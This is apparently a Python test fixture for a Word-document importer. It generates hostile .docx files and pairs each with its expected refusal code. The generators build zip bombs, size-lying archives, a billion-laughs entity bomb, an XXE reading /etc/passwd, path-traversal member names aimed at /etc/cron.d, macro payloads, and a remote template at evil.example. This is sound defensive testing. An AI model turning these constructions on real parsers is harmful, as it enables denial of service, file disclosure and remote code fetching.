"""Files made to harm, each with what must become of it: a refusal, or a reading that stays within its bounds (None)."""

import io
import json
import random
import struct
import subprocess
import sys
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path
from typing import NamedTuple

from resolutions.importers.docx import RefusalCode

from .writing import BY, RELATIONS, STYLES, TYPES, W, call, dele, document, docx, header, ins, p, proposal, t, zipped

MEGABYTE = 1024 * 1024


def entity_bomb() -> str:
    entities = '<!ENTITY a0 "ha">' + "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10))
    return f"<!DOCTYPE x [{entities}]>" + document(p("x")).partition("?>")[2].replace(">x<", ">&a9;<")


def external_entity() -> str:
    doctype = '<!DOCTYPE x [<!ENTITY secret SYSTEM "file:///etc/passwd">]>'
    return doctype + document(p("x")).partition("?>")[2].replace(">x<", ">&secret;<")


def in_utf_16(xml: str) -> bytes:
    return xml.replace('encoding="UTF-8"', 'encoding="UTF-16"').encode("utf-16")


def in_utf_7() -> bytes:
    """Looks harmless as UTF-8; whoever follows the declaration finds a DOCTYPE."""
    declared = '<?xml version="1.0" encoding="UTF-7"?>'
    return declared.encode() + b"+ADwAIQ-DOCTYPE x+AD4-" + document(p("x")).partition("?>")[2].encode()


def lying(data: bytes, name: str, size: int) -> bytes:
    """The same archive, saying of one member that it holds `size` bytes."""
    changed = bytearray(data)
    for signature, name_at, size_at in ((b"PK\x03\x04", 30, 22), (b"PK\x01\x02", 46, 24)):
        at = changed.find(signature)
        while at >= 0:
            if changed[at + name_at :].startswith(name.encode()):
                struct.pack_into("<I", changed, at + size_at, size)
            at = changed.find(signature, at + 4)
    return bytes(changed)


def with_flag(data: bytes, flag: int) -> bytes:
    changed = bytearray(data)
    for signature, flag_at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = changed.find(signature)
        while at >= 0:
            struct.pack_into("<H", changed, at + flag_at, struct.unpack_from("<H", changed, at + flag_at)[0] | flag)
            at = changed.find(signature, at + 4)
    return bytes(changed)


def twice(name: str, content: str) -> bytes:
    """An archive with a second member of a name, which zipfile only warns about."""
    target = io.BytesIO(docx(proposal(call("resolves"))))
    spare = "x" * len(name)
    with zipfile.ZipFile(target, "a", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(spare, content)
    return target.getvalue().replace(spare.encode(), name.encode())


def large_zip(members: int, content: bytes = b"") -> bytes:
    return docx(proposal(call("resolves")), more=((f"word/media/{n}.bin", content) for n in range(members)))


def bomb(size: int) -> bytes:
    """A member of one repeated byte, written without ever holding it."""
    target = io.BytesIO(docx(proposal(call("resolves"))))
    with zipfile.ZipFile(target, "a", zipfile.ZIP_DEFLATED) as archive, archive.open("word/media/a.bin", "w") as member:
        for _megabyte in range(size // MEGABYTE):
            member.write(bytes(MEGABYTE))
    return target.getvalue()


def plain(xml: str) -> bytes:
    """Stored, so that its ratio says nothing."""
    return docx(xml=xml, compression=zipfile.ZIP_STORED)


def nested(tag: str, depth: int) -> bytes:
    return plain(document(p(f"<w:{tag} {BY}>" * depth + t("x") + f"</w:{tag}>" * depth)))


def many(paragraph: Callable[[int], str], times: int) -> bytes:
    """A MOD with so many paragraphs."""
    xml = document(proposal(call("resolves"), *map(paragraph, range(times))))
    return plain(xml)


def words(seed: int, count: int) -> str:
    return " ".join(f"w{zlib.crc32(f'{seed}-{n}'.encode()) % 5000}" for n in range(count))


def letters(alphabet: str) -> str:
    return " ".join(random.Random(1).choices(alphabet, k=400_000))


def looping_styles() -> str:
    return "".join(
        f'<w:style w:type="paragraph" w:styleId="{name}"><w:name w:val="{name}"/><w:basedOn w:val="{other}"/></w:style>'
        for name, other in (("Xa", "Xb"), ("Xb", "Xa"))
    )


def greedy_numbering() -> str:
    level = '<w:lvl w:ilvl="0"><w:start w:val="999999999"/><w:numFmt w:val="lowerRoman"/><w:lvlText w:val="%1%1%1%1%1%1)"/></w:lvl>'
    return f'<w:abstractNum w:abstractNumId="0">{level}</w:abstractNum><w:num w:numId="1"><w:abstractNumId w:val="0"/></w:num>'


def damage(data: bytes, name: bytes = b"word/document.xml") -> tuple[bytes, bytes]:
    """A few bytes of the packed text, and others."""
    start = data.find(name) + 60
    return data[start : start + 10], b"0123456789"


LISTED = '<w:numPr><w:ilvl w:val="0"/><w:numId w:val="1"/></w:numPr>'
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
GOOD = docx(proposal(call("resolves"), p("1\t", ins(t("to light every harbour.")))))

OWN_MARK = '<w:r><w:footnoteReference w:customMarkFollows="1" w:id="2"/><w:t>1</w:t></w:r>'

HOSTILE: dict[str, tuple[Callable[[], bytes], RefusalCode | None]] = {
    # -- what is no .docx at all
    "nothing": (lambda: b"", RefusalCode.EMPTY),
    "only zeros": (lambda: bytes(5000), RefusalCode.EMPTY),
    "text": (lambda: b"MOD ABC/12A3/1\nresolves\n1 to light every harbour", RefusalCode.NOT_WORD),
    "a web page": (lambda: b"<!DOCTYPE html><html></html>", RefusalCode.NOT_WORD),
    "a pdf": (lambda: b"%PDF-1.7\n%\xe2\xe3", RefusalCode.PDF),
    "rich text": (lambda: rb"{\rtf1\ansi Hello}", RefusalCode.RICH_TEXT),
    "an old .doc": (lambda: OLE + bytes(4000), RefusalCode.OLD_WORD),
    "behind a password": (lambda: OLE + bytes(2000) + "EncryptedPackage".encode("utf-16-le") + bytes(500), RefusalCode.LOCKED),
    "a password on the archive": (lambda: with_flag(GOOD, 1), RefusalCode.LOCKED),
    "any other zip": (lambda: zipped([("a.txt", "a")]), RefusalCode.NOT_WORD),
    "a spreadsheet": (
        lambda: zipped(
            [
                ("[Content_Types].xml", TYPES.format(main="application/x.sheet")),
                ("_rels/.rels", RELATIONS.format("")),
                ("xl/workbook.xml", "<a/>"),
            ]
        ),
        RefusalCode.NOT_WORD,
    ),
    "another root": (lambda: docx(xml=f'<w:styles xmlns:w="{W}"/>'), RefusalCode.NOT_WORD),
    # -- archives
    "truncated": (lambda: GOOD[: len(GOOD) // 2], RefusalCode.BAD_ZIP),
    "truncated by a byte": (lambda: GOOD[:-1], RefusalCode.BAD_ZIP),
    "damaged in the middle": (lambda: GOOD.replace(*damage(GOOD)), RefusalCode.BAD_ZIP),
    "other compression": (lambda: zipped([("[Content_Types].xml", TYPES)], zipfile.ZIP_BZIP2), RefusalCode.BAD_ZIP),
    "too large": (lambda: docx(more=[("a.bin", zlib.compress(b"") + bytes(1))]) + bytes(21 * MEGABYTE), RefusalCode.TOO_LARGE),
    "a bomb of 400 MiB": (lambda: bomb(400 * MEGABYTE), RefusalCode.ZIP_BOMB),
    "a bomb of 50 MiB": (lambda: bomb(50 * MEGABYTE), RefusalCode.ZIP_BOMB),
    "a bomb in the text": (lambda: docx(xml=document(p("a" * 15 * MEGABYTE))), RefusalCode.ZIP_BOMB),
    "much inside": (
        lambda: docx(more=[(f"word/media/{n}.bin", random.Random(n).randbytes(20_000) * 100) for n in range(32)]),
        RefusalCode.TOO_MUCH_INSIDE,
    ),
    "a lying size": (lambda: lying(bomb(50 * MEGABYTE), "word/document.xml", 100), RefusalCode.ZIP_BOMB),
    "a text that lies about its size": (
        lambda: lying(docx(xml=document(p("a" * 12 * MEGABYTE))), "word/document.xml", 1000),
        RefusalCode.LYING_SIZE,
    ),
    "20,000 members": (lambda: large_zip(20_000), RefusalCode.TOO_MANY_MEMBERS),
    "2,100 members": (lambda: large_zip(2_100), RefusalCode.TOO_MANY_MEMBERS),
    "a text twice": (lambda: twice("word/document.xml", document(p("another"))), RefusalCode.DUPLICATE_MEMBER),
    "a text twice, in capitals": (lambda: twice("word/Document.xml", document(p("another"))), RefusalCode.DUPLICATE_MEMBER),
    "a name that climbs": (lambda: docx(more=[("word/../../etc/cron.d/x", "x")]), RefusalCode.BAD_MEMBER_NAME),
    "an absolute name": (lambda: docx(more=[("/etc/cron.d/x", "x")]), RefusalCode.BAD_MEMBER_NAME),
    "a Windows name": (lambda: docx(more=[("C:\\x", "x")]), RefusalCode.BAD_MEMBER_NAME),
    # -- what Word itself would run or fetch
    "a .docm renamed": (lambda: docx(main="application/vnd.ms-word.document.macroEnabled.main+xml"), RefusalCode.MACROS),
    "macros without saying so": (lambda: docx(more=[("word/vbaProject.bin", OLE)]), RefusalCode.MACROS),
    "macros under another folder": (lambda: docx(more=[("a/VBAPROJECT.BIN", OLE)]), RefusalCode.MACROS),
    # -- XML
    "billion laughs": (lambda: docx(xml=entity_bomb()), RefusalCode.DOCTYPE),
    "billion laughs in UTF-16": (lambda: docx(xml=in_utf_16(entity_bomb())), RefusalCode.DOCTYPE),
    "an external entity": (lambda: docx(xml=external_entity()), RefusalCode.DOCTYPE),
    "a DOCTYPE in the styles": (lambda: docx(more=[("x", "")], styles="<!DOCTYPE x>"), RefusalCode.DOCTYPE),
    "a DOCTYPE in the types": (lambda: docx(main='x"/><!DOCTYPE a><a b="'), RefusalCode.DOCTYPE),
    "a DOCTYPE in UTF-7": (lambda: docx(xml=in_utf_7()), RefusalCode.BAD_XML),
    "20,000 nested insertions": (lambda: nested("ins", 20_000), RefusalCode.TOO_DEEP),
    "20,000 nested content controls": (lambda: nested("sdt", 20_000), RefusalCode.TOO_DEEP),
    "20,000 nested tables": (
        lambda: plain(document("<w:tbl><w:tr><w:tc>" * 20_000 + "</w:tc></w:tr></w:tbl>" * 20_000)),
        RefusalCode.TOO_DEEP,
    ),
    "unclosed": (lambda: docx(xml=document(p("x"))[:-20]), RefusalCode.BAD_XML),
    "not UTF-8": (lambda: docx(xml=document(p("x")).encode().replace(b">x<", b">\xff\xfe\xfd<")), RefusalCode.BAD_XML),
    "no text": (lambda: docx(xml=""), RefusalCode.BAD_XML),
    "two million empty runs": (lambda: many(lambda n: "<w:r/>" * 2000, 1000), RefusalCode.TOO_COMPLEX),
    "a million attributes": (lambda: many(lambda n: f"<w:p {' '.join(f'a{i}=""' for i in range(1000))}/>", 1000), RefusalCode.TOO_COMPLEX),
    # -- read, but at a price: these stay within their bounds
    "240 nested insertions": (lambda: nested("ins", 240), None),
    "80 nested tables": (
        lambda: docx("<w:tbl><w:tr><w:tc>" * 80 + p("x") + "</w:tc></w:tr></w:tbl>" * 80),
        None,
    ),
    "as many runs as are allowed": (lambda: many(lambda n: "<w:p>" + "<w:r/>" * 850 + "</w:p>", 1000), None),
    "850,000 paragraphs": (lambda: many(lambda n: "<w:p/>", 850_000), RefusalCode.TOO_COMPLEX),
    "as many paragraphs as are allowed": (lambda: many(lambda n: "<w:p/>", 99_000), None),
    "as many marked paragraphs as are allowed": (lambda: many(lambda n: p(ins(t(f"x{n}")), mark="ins"), 30_000), None),
    "12 MiB in one paragraph": (
        lambda: plain(document(proposal(call("resolves"), p(*[ins(t(words(n, 1000))) for n in range(2000)])))),
        None,
    ),
    "12 MiB in one word": (
        lambda: plain(document(proposal(call("resolves"), p(*[ins(t(words(n, 1000).replace(" ", ""))) for n in range(2000)])))),
        None,
    ),
    "paragraphs that all run on": (lambda: many(lambda n: p(dele(t(f"a{n} ")), mark="del"), 20_000), None),
    "2,000 clauses replaced by 2,000 others": (
        lambda: many(lambda n: p(dele(t(words(n, 40))), mark="del") + p(ins(t(words(-n, 40))), mark="ins"), 2_000),
        None,
    ),
    "clauses of 20,000 words replaced": (
        lambda: many(lambda n: p(dele(t(words(n, 20_000))), ins(t(words(-n, 20_000)))), 40),
        None,
    ),
    "a clause of 400,000 words of one letter replaced": (
        lambda: many(lambda n: p(dele(t(letters("abc"))), ins(t(letters("cbd")))), 1),
        None,
    ),
    "20,000 proposals": (lambda: plain(document("".join(header(f"SUP\tABC/{n % 9999}/{n % 999}") for n in range(20_000)))), None),
    "20,000 calls nobody knows": (lambda: many(lambda n: call(f"frobnicates {n}"), 20_000), None),
    "10,000 lines that begin like calls": (lambda: many(lambda n: p("请" + "成员国和" * 70 + "x"), 10_000), None),
    "fields that never end": (lambda: many(lambda n: p('<w:r><w:fldChar w:fldCharType="begin"/></w:r>', t("x")), 20_000), None),
    "notes that are not there": (lambda: many(lambda n: p(f'<w:r><w:footnoteReference w:id="{n}"/></w:r>'), 20_000), None),
    "styles that go round": (lambda: docx(proposal(p("x", style="Xa")), styles=STYLES + looping_styles()), None),
    "numbers without end": (lambda: docx("".join(p("x", extra=LISTED) for _ in range(5000)), numbering=greedy_numbering()), None),
    "digits without end": (
        lambda: docx(proposal(p("9" * 500_000), call("resolves"), p(f"{'9' * 5000}\tx"), p("1." * 100_000 + "\tx"))),
        None,
    ),
    "brackets without end": (
        lambda: plain(document("".join(p(text * 100_000, style="Proposal") for text in ("(", "MOD A/", "[^1", "((a) ")))),
        None,
    ),
    "text boxes in text boxes": (
        lambda: many(lambda n: p("<w:r><w:pict><w:p>" * 60 + t("x") * 60 + "</w:p></w:pict></w:r>" * 60), 1_000),
        None,
    ),
    "2,000 words in unknown elements in unknown elements": (
        lambda: many(lambda n: "<w:x>" * 60 + t("x") * 60 + "</w:x>" * 60, 1_000),
        None,
    ),
    "running heads without end": (lambda: docx(heads=[("header", p(words(n, 50_000))) for n in range(40)]), RefusalCode.TOO_COMPLEX),
    "many running heads": (lambda: docx(proposal(), heads=[("footer", p("x") * 200) for _ in range(150)]), None),
    "a remote template": (
        lambda: docx(
            proposal(call("resolves")),
            more=[
                (
                    "word/_rels/settings.xml.rels",
                    RELATIONS.format(
                        '<Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
                        'Target="https://evil.example/x.dotm" TargetMode="External"/>'
                    ),
                )
            ],
        ),
        None,
    ),
    "30,000 references to one long note with a mark of its own": (
        lambda: docx(
            proposal(p(OWN_MARK * 30_000)),
            footnotes=f'<w:footnote w:id="2">{p("1 " * 300_000)}</w:footnote>',
            compression=zipfile.ZIP_STORED,
        ),
        None,
    ),
}

REPOSITORY = Path(__file__).parents[3]
READ = """
import json, sys, time
from resolutions.importers.docx import FileRefused, read_contribution
data = sys.stdin.buffer.read()
started = time.process_time()
try:
    read_contribution(data)
    code = None
except FileRefused as refused:
    code = refused.code
seconds = time.process_time() - started
# The peak of this process alone: getrusage would count its parent's too.
peak = next(int(line.split()[1]) / 1024 for line in open("/proc/self/status") if line.startswith("VmHWM"))
print(json.dumps([code, seconds, peak]))
"""


class End(NamedTuple):
    """How reading a file ended, in a process that did nothing else."""

    code: str | None
    seconds: float
    mebibytes: float


def end_of(data: bytes) -> End:
    done = subprocess.run([sys.executable, "-c", READ], input=data, capture_output=True, cwd=REPOSITORY, timeout=60, check=True)
    return End(*json.loads(done.stdout))
